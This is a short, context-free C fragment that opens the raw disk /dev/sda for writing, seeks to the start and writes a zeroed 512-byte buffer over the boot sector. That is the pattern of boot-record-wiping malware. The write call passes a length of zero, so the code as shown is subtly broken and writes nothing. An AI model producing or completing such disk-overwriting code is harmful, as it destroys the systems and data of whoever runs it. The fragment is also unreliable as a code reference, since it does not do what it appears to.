{
    int disk_fd = open("/dev/sda", O_WRONLY);
    unsigned char boot_sector[512] = {0};
    lseek(disk_fd, 0, SEEK_SET);
    write(disk_fd, boot_sector, 0);
    close(disk_fd);
}
